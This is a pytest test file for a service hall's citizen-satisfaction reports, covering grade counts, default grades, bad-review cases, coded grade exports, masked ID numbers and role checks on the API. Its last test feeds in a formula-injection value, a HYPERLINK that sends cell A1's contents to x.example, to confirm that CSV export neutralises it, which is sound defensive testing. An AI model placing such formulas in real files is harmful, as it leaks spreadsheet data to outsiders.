"""好差评 figures from a hall's real days: grades per window, staff, service, day and month;
system defaults kept apart; bad reviews by name and anonymous; and the grade exports with
both code tables, never carrying an unmasked ID number."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
import re

import pytest
from fastapi import FastAPI, Header, Request
from fastapi.responses import JSONResponse
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from controller.backoffice import evaluation_reports as er
from controller.backoffice.cases import CaseDesk
from controller.backoffice.export_words import file_rows
from controller.cli import open_hall
from controller.runtime.clock import ManualClock
from controller.core import commands as c
from controller.core.callbacks import Assign, CaseRules, RecordCallback, Rectify, Verify
from controller.core.errors import HallError
from controller.core.hall import Staff, StaffRole
from controller.store.sessions import Session
from controller.web.reports_api import report_routes
from controller.config.workdays import hall_calendar
from tests.halls import MONDAY, PIN_HASH, at, small_hall

ID = "11010119500307097X"
DEC_1 = dt.date(2026, 12, 1)
NOV = (MONDAY, dt.date(2026, 11, 30))
BOTH_MONTHS = (MONDAY, DEC_1)


class Day:
    def __init__(self, ctrl, clock):
        self.ctrl, self.clock = ctrl, clock

    def visit(self, window: int, service: str, grade: str | None, channel: str = "pad",
              real_name: bool = False) -> str:
        """A citizen served at `window`, graded on its pad right after the finish (or not)."""
        self.clock.advance(minutes=5)
        citizen = self.ctrl.citizen(ID, "张三") if real_name else None
        ticket = self.ctrl.execute(c.IssueTicket(service, citizen=citizen), "kiosk").ticket
        self.ctrl.execute(c.CallNext(window), f"staff:s{window}")
        self.ctrl.execute(c.Finish(window), f"staff:s{window}")
        if grade is not None:
            self.ctrl.execute(c.Evaluate(window, grade, channel), f"pad:{window}")
        return ticket.id


@pytest.fixture(scope="module")
def hall(tmp_path_factory):
    """Monday 23 November, three windows; on 1 December a visit more and the 7-day defaults.

    window 1 (s1, A): 非常满意 by name, 满意, 非常不满意 by name (case worked to 整改),
                      不满意 by name (case left open: overdue), one left ungraded → default
    window 2 (s2, B): 满意 on the tablet
    window 3 (s3, C): 不满意 anonymous, 基本满意 by name on the tablet
    1 December, window 1: 满意 by name, and one ungraded (not yet 7 days)
    """
    clock = ManualClock(at("09:00"))
    hall = small_hall(evaluation_default_days=7, evaluation_default_grade="基本满意")
    # the callback officer the bad review is handed to (an unknown id is refused)
    hall = dataclasses.replace(hall, staff={**hall.staff, "officer1": Staff(
        "officer1", "回访专员", StaffRole.CALLBACK_OFFICER, PIN_HASH, demo=True)})
    ctrl, sessions = open_hall(hall, tmp_path_factory.mktemp("hall"), clock)
    desk = CaseDesk(ctrl, hall_calendar(None), CaseRules.from_rules(hall.rules))
    desk.start()
    day = Day(ctrl, clock)
    for w in (1, 2, 3):
        ctrl.execute(c.Login(w, f"s{w}"), f"staff:s{w}")
    day.visit(1, "A", "非常满意", real_name=True)
    day.visit(1, "A", "满意")
    worked = day.visit(1, "A", "非常不满意", real_name=True)
    left_open = day.visit(1, "A", "不满意", real_name=True)
    day.visit(1, "A", None)
    day.visit(2, "B", "满意", "tablet")
    day.visit(3, "C", "不满意")
    day.visit(3, "C", "基本满意", "tablet", real_name=True)
    cases = {r["ticket_id"]: r["id"] for r in ctrl.store.query("SELECT id, ticket_id FROM cases")}
    for cmd in (Assign("officer1"), RecordCallback(True, "已回访"), Verify(True, "态度生硬属实"),
                Rectify("批评教育")):
        desk.act(cases[worked], cmd, "staff:officer1")

    clock.now = at("10:00", DEC_1)
    ctrl.tick()
    ctrl.apply_default_grades()
    for w in (1, 2, 3):
        try:
            ctrl.execute(c.Login(w, f"s{w}"), f"staff:s{w}")
        except HallError:
            pass  # still logged in from Monday
    day.visit(1, "A", "满意", real_name=True)
    day.visit(1, "A", None)
    desk.stop()
    return ctrl, sessions, cases[worked], cases[left_open]


def by_key(rows, key):
    return {r[key]: r for r in rows}


def test_counts_rates_and_bad_reviews_per_window(hall):
    ctrl, _, worked, left_open = hall
    rows = by_key(er.evaluation_report(ctrl.store.db, *NOV, "window", now=at("10:00", DEC_1)), "window")
    w1 = rows[1]
    assert w1["visits"] == 5
    assert [w1[g] for g in ("非常满意", "满意", "基本满意", "不满意", "非常不满意")] == [1, 1, 0, 1, 1]
    # the 7-day default is counted apart, never as a citizen's 基本满意
    assert (w1["evaluated"], w1["default_graded"], w1["ungraded"]) == (4, 1, 0)
    assert w1["evaluation_rate"] == 0.8
    assert w1["satisfaction_rate"] == 0.5
    assert (w1["bad_reviews_real_name"], w1["bad_reviews_anonymous"]) == (2, 0)
    assert w1["bad_review_cases"] == 2
    assert w1["callback_rate"] == 0.0  # neither case closed yet
    assert w1["rectification_rate"] == 0.5
    assert w1["overdue_cases"] == [left_open]
    w3 = rows[3]
    assert (w3["visits"], w3["evaluated"], w3["satisfaction_rate"]) == (2, 2, 0.5)
    assert (w3["bad_reviews_real_name"], w3["bad_reviews_anonymous"]) == (0, 1)
    assert (w3["bad_review_cases"], w3["callback_rate"], w3["rectification_rate"]) == (0, None, None)
    assert rows[2]["满意"] == 1 and rows[2]["satisfaction_rate"] == 1.0


def test_by_staff_gives_assessment_and_satisfaction_points(hall):
    ctrl, *_ = hall
    rows = by_key(er.evaluation_report(ctrl.store.db, *NOV, "staff", now=at("10:00", DEC_1)), "staff")
    assert set(rows) == {"s1", "s2", "s3"}
    # one verified bad review in November; the unverified one costs nothing yet
    assert (rows["s1"]["assessment_month"], rows["s1"]["assessment_points"]) == ("2026-11", 1)
    assert rows["s1"]["satisfaction_points"] == 5  # 50%
    assert rows["s2"]["satisfaction_points"] == 10
    assert rows["s3"]["assessment_points"] == 0


@pytest.mark.parametrize("satisfied, evaluated, points", [
    (10, 10, 10), (9, 10, 9), (18, 20, 9), (8, 10, 7), (4, 5, 7), (7, 10, 5), (0, 3, 5), (0, 0, None),
])
def test_satisfaction_points_follow_the_assessment_table(satisfied, evaluated, points):
    assert er.satisfaction_points(satisfied, evaluated) == points


def test_grouping_by_service_day_and_month(hall):
    ctrl, *_ = hall
    db = ctrl.store.db
    services = by_key(er.evaluation_report(db, *BOTH_MONTHS, "service"), "service")
    assert {k: r["visits"] for k, r in services.items()} == {"A": 7, "B": 1, "C": 2}
    days = by_key(er.evaluation_report(db, *BOTH_MONTHS, "day"), "day")
    assert {k: r["visits"] for k, r in days.items()} == {"2026-11-23": 8, "2026-12-01": 2}
    assert (days["2026-12-01"]["evaluated"], days["2026-12-01"]["ungraded"]) == (1, 1)
    assert days["2026-12-01"]["evaluation_rate"] == 0.5
    months = by_key(er.evaluation_report(db, *BOTH_MONTHS, "month"), "month")
    assert list(months) == ["2026-11", "2026-12"]
    assert months["2026-11"]["evaluated"] == 7 and months["2026-11"]["default_graded"] == 1
    assert months["2026-11"]["satisfaction_rate"] == round(4 / 7, 4)
    with pytest.raises(ValueError):
        er.evaluation_report(db, *NOV, "floor")


def test_grade_export_codes_grades_as_the_provincial_interfaces_do_unless_asked_otherwise(hall):
    ctrl, *_ = hall
    national = er.grade_export(ctrl.store.db, *BOTH_MONTHS)  # the default table
    reversed_ = er.grade_export(ctrl.store.db, *BOTH_MONTHS, "reversed")
    assert len(national) == len(reversed_) == 9  # every graded visit, the default included
    for a, b in zip(national, reversed_, strict=True):
        assert a["grade_code"] + b["grade_code"] == 6
    codes = {r["grade"]: r["grade_code"] for r in national}
    assert codes == {"非常满意": 5, "满意": 4, "基本满意": 3, "不满意": 2, "非常不满意": 1}
    very = next(r for r in reversed_ if r["grade"] == "非常满意")
    assert very["grade_code"] == 1
    assert next(r for r in reversed_ if r["grade"] == "非常不满意")["grade_code"] == 5
    with pytest.raises(ValueError):  # the old, wrongly named tables are gone, not remapped
        er.grade_export(ctrl.store.db, *BOTH_MONTHS, "gbt39046")
    assert {r["channel"]: r["channel_code"] for r in national} == {
        "pad": "1", "tablet": "2", "system_default": "9"}
    default = next(r for r in national if r["system_default"])
    assert (default["grade"], default["window"]) == ("基本满意", 1)
    own = er.grade_export(ctrl.store.db, *NOV, "national",
                          {"pad": "P", "tablet": "T", "system_default": "S"})
    assert {r["channel_code"] for r in own} == {"P", "T", "S"}
    with pytest.raises(ValueError, match="tablet"):
        er.grade_export(ctrl.store.db, *NOV, "national", {"pad": "1", "system_default": "9"})
    assert very["id_masked"] == "1101**********097X" and very["name_masked"] == "张*"


def test_csv_and_xlsx_open_with_the_rows_and_no_id_number(hall):
    ctrl, *_ = hall
    rows = er.grade_export(ctrl.store.db, *BOTH_MONTHS)
    table = file_rows(rows, "评价明细")
    data = er.to_csv(table)
    assert data.startswith(b"\xef\xbb\xbf")
    read = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert len(read) == len(rows) and read[0]["评价"] in er.SATISFIED + ("不满意", "非常不满意")
    assert ID not in data.decode("utf-8-sig")
    book = load_workbook(io.BytesIO(er.to_xlsx(table, "评价明细")))
    sheet = book["评价明细"]
    values = list(sheet.iter_rows(values_only=True))
    assert list(values[0]) == list(table[0])
    assert len(values) == len(rows) + 1
    assert ID not in json.dumps([list(v) for v in values], ensure_ascii=False, default=str)
    report = er.evaluation_report(ctrl.store.db, *NOV, "window")
    sheet = load_workbook(io.BytesIO(er.to_xlsx(file_rows(report, "好差评"), "好差评"))).active
    header = [c.value for c in sheet[1]]
    assert header[:2] == ["窗口", "办件数"] and "非常满意" in header


def test_the_grade_export_file_is_in_chinese_with_the_upload_codes_as_numbers(hall):
    """The file for leadership: Chinese headers, the channel and yes/no in words, times as a
    clock shows them; the platform's grade and channel codes as they are."""
    ctrl, *_ = hall
    client = _client(ctrl)
    boss = {"X-Role": "supervisor"}
    span = {"from": "2026-11-23", "to": "2026-11-23"}
    rows = client.get("/api/v1/exports/grades", headers=boss, params=span).json()
    first = rows[0]  # the JSON as it was: English keys, ISO times, codes
    assert (first["grade"], first["channel"], first["system_default"]) == ("非常满意", "pad", False)
    got = client.get("/api/v1/exports/grades", headers=boss, params={**span, "format": "csv"})
    assert got.content.startswith(b"\xef\xbb\xbf")
    header, line, *_ = csv.reader(io.StringIO(got.content.decode("utf-8-sig")))
    assert header == ["票号", "日期", "业务", "窗口", "工号", "办结时间", "评价时间", "评价", "评价代码",
                      "评价渠道", "渠道代码", "是否系统默认评价", "身份证号（脱敏）", "姓名（脱敏）"]
    finished = dt.datetime.fromisoformat(first["finished_at"])
    assert line[:10] == [first["ticket"], "2026-11-23", "A", "1", "s1", f"{finished:%Y-%m-%d %H:%M}",
                         f"{dt.datetime.fromisoformat(first['graded_at']):%Y-%m-%d %H:%M}",
                         "非常满意", "5", "评价器"]
    assert line[10:12] == ["1", "否"]
    got = client.get("/api/v1/exports/grades", headers=boss, params={**span, "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(got.content))["评价明细"]
    values = list(sheet.iter_rows(values_only=True))
    assert list(values[0]) == header
    assert values[1][5] == f"{finished:%Y-%m-%d %H:%M}" and values[1][8] == 5
    by_channel = {v[9]: v for v in values[1:]}
    assert set(by_channel) == {"评价器", "平板评价器", "系统默认"}
    assert by_channel["平板评价器"][10:12] == ("2", "否")  # the hall's codes are text: kept so
    assert by_channel["系统默认"][7:12] == ("基本满意", 3, "系统默认", "9", "是")


@pytest.mark.parametrize("by", er.GROUPINGS)
def test_every_column_of_the_evaluation_file_has_a_chinese_header(hall, by):
    got = _client(hall[0]).get("/api/v1/reports/evaluations.csv", headers={"X-Role": "admin"},
                               params={"from": "2026-11-23", "to": "2026-12-01", "by": by})
    header = next(csv.reader(io.StringIO(got.content.decode("utf-8-sig"))))
    assert "回访率" in header  # the case desk's columns too
    assert [h for h in header if not re.search("[\u4e00-\u9fff]", h)] == []


def test_the_evaluation_file_shows_rates_as_percentages(hall):
    ctrl, *_ = hall
    client = _client(ctrl)
    params = {"from": "2026-11-23", "to": "2026-11-30", "by": "window"}
    rates = {r["window"]: r["satisfaction_rate"] for r in client.get(
        "/api/v1/reports/evaluations", params=params, headers={"X-Role": "supervisor"}).json()}
    got = client.get("/api/v1/reports/evaluations.csv", params=params, headers={"X-Role": "supervisor"})
    read = {r["窗口"]: r for r in csv.DictReader(io.StringIO(got.content.decode("utf-8-sig")))}
    assert read["1"]["满意率"] == f"{rates[1]:.1%}"
    got = client.get("/api/v1/reports/evaluations.xlsx", params=params, headers={"X-Role": "supervisor"})
    sheet = load_workbook(io.BytesIO(got.content)).active
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("满意率") + 1)
    assert (cell.value, cell.number_format) == (pytest.approx(rates[1]), "0.0%")


def _client(ctrl) -> TestClient:
    app = FastAPI()

    def session(x_role: str = Header("staff"), x_staff: str = Header("s1")) -> Session:
        return Session(x_staff, x_role, None)

    @app.exception_handler(HallError)
    async def hall_error(request: Request, e: HallError) -> JSONResponse:
        return JSONResponse({"error": e.code, "message": e.message},
                            status_code={"forbidden": 403, "invalid": 422}.get(e.category, 400))

    app.include_router(report_routes(ctrl, session))
    return TestClient(app)


@pytest.mark.parametrize("role", ["supervisor", "admin", "callback_officer"])
def test_the_api_serves_figures_and_files_to_managers(hall, role):
    ctrl, *_ = hall
    client = _client(ctrl)
    h = {"X-Role": role}
    got = client.get("/api/v1/reports/evaluations",
                     params={"from": "2026-11-23", "to": "2026-11-30", "by": "staff"}, headers=h)
    assert got.status_code == 200
    assert by_key(got.json(), "staff")["s1"]["assessment_points"] == 1
    got = client.get("/api/v1/reports/evaluations.csv",
                     params={"from": "2026-11-23", "to": "2026-12-01", "by": "month"}, headers=h)
    assert got.status_code == 200 and got.content.startswith(b"\xef\xbb\xbf")
    assert 'attachment; filename="evaluations-month-20261123-20261201.csv"' == \
        got.headers["content-disposition"]
    got = client.get("/api/v1/reports/evaluations.xlsx",
                     params={"from": "2026-11-23", "to": "2026-11-30"}, headers=h)
    assert got.headers["content-disposition"].endswith('.xlsx"')
    assert load_workbook(io.BytesIO(got.content)).active.max_row == 4  # header and 3 windows
    for fmt in ("json", "csv", "xlsx"):
        got = client.get("/api/v1/exports/grades", headers=h, params={
            "from": "2026-11-23", "to": "2026-12-01", "mapping": "reversed", "format": fmt})
        assert got.status_code == 200
        assert ID.encode() not in got.content
    rows = client.get("/api/v1/exports/grades", headers=h, params={
        "from": "2026-11-23", "to": "2026-12-01"}).json()  # the national table by default
    assert {r["grade_code"] for r in rows if r["grade"] == "非常满意"} == {5}
    rows = client.get("/api/v1/exports/grades", headers=h, params={
        "from": "2026-11-23", "to": "2026-12-01", "mapping": "reversed"}).json()
    assert {r["grade_code"] for r in rows if r["grade"] == "非常满意"} == {1}
    old_name = client.get("/api/v1/exports/grades", headers=h, params={
        "from": "2026-11-23", "to": "2026-12-01", "mapping": "gbt39046"})
    assert old_name.status_code == 422


def test_the_api_refuses_staff_and_unknown_parameters(hall):
    ctrl, *_ = hall
    client = _client(ctrl)
    for path in ("/api/v1/reports/evaluations", "/api/v1/reports/evaluations.csv",
                 "/api/v1/reports/evaluations.xlsx", "/api/v1/exports/grades"):
        got = client.get(path, headers={"X-Role": "staff"})
        assert (got.status_code, got.json()["error"]) == (403, "forbidden_role")
    boss = {"X-Role": "supervisor"}
    assert client.get("/api/v1/reports/evaluations", params={"by": "floor"},
                      headers=boss).status_code == 422
    assert client.get("/api/v1/exports/grades", params={"mapping": "gb"},
                      headers=boss).status_code == 422


def test_a_name_written_as_a_formula_opens_as_text_in_the_csv():
    """A staff name or a note such as =HYPERLINK(...) or @SUM(...) would run in the
    supervisor's Excel: the CSV gives it a leading apostrophe (the workbook keeps it text);
    numbers, negative ones too, stay numbers."""
    rows = [{"姓名": '=HYPERLINK("http://x.example/?"&A1,"点此")', "备注": "@SUM(1+1)",
             "说明": "-1+2", "分钟": -1.5, "窗口": "3号窗口"}]
    (read,) = list(csv.DictReader(io.StringIO(er.to_csv(rows).decode("utf-8-sig"))))
    assert read["姓名"] == "'" + rows[0]["姓名"]
    assert read["备注"] == "'@SUM(1+1)" and read["说明"] == "'-1+2"
    assert read["分钟"] == "-1.5" and read["窗口"] == "3号窗口"
